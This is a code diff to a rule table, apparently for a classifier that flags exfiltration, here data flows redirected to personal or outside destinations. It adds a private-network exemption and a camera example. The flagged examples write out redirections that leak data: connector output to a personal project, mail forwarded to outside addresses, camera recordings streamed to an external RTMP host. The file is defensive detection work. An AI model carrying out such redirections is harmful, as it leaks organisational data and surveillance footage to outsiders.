@@ -86,11 +86,15 @@ export const FRAME_ROWS: readonly FrameRow[] = [
     slot: 52, name: 'Data flow redirected to a personal or outside destination', primitive: 'EXFILTRATION', score: 8,
     // 'fact:dest-owned': the metadata says the destination is the organisation's own (data_pipeline)
     // an automation created to forward or export on a schedule (op:create) redirects the flow from then on
-    op: ['op:modify', 'op:send', 'op:grant', 'op:create'], all: [['obj:flow'], ['dest:freemail', 'dest:personal', 'dest:public', 'dest:host', 'dest:external']], unless: [...UNLESS_SAFE, 'fact:dest-owned'],
+    // ('fact:dest-lan': every host the value names is a private network's own, an NVR or a LoRa gateway on the site's LAN:
+    // the flow stays on the organisation's machines, as for row 51)
+    op: ['op:modify', 'op:send', 'op:grant', 'op:create'], all: [['obj:flow'], ['dest:freemail', 'dest:personal', 'dest:public', 'dest:host', 'dest:external']], unless: [...UNLESS_SAFE, 'fact:dest-owned', 'fact:dest-lan'],
     examples: {
       flag: ['fivetran: change destination of connector salesforce_prod to BigQuery project personal-analytics-jd', "Add forwarding address 'inbox.backup@proton.me' and forward all incoming mail",
-        '@automation-bot create rule: forward the #finance-approvals digest and attachments to finance.digest.acme@gmail.com every Monday'],
-      pass: ['change destination of the nightly export to the internal analytics bucket', 'Turn off mail forwarding', '@automation-bot create rule: forward the #finance-approvals digest to finance@acme.com every Monday'],
+        '@automation-bot create rule: forward the #finance-approvals digest and attachments to finance.digest.acme@gmail.com every Monday',
+        'PUT http://cam-dock-07.marina.local/ISAPI/ContentMgmt/record/tracks/101 <Track><Enable>true</Enable><Destination>rtmp://stream.cam-share.io/live</Destination></Track>'],
+      pass: ['change destination of the nightly export to the internal analytics bucket', 'Turn off mail forwarding', '@automation-bot create rule: forward the #finance-approvals digest to finance@acme.com every Monday',
+        'PUT http://cam-gate-02.depot.local/ISAPI/ContentMgmt/record/tracks/201 <Track><Enable>true</Enable><Destination>nvr-02.depot.local</Destination></Track>'],
     },
   },
   {
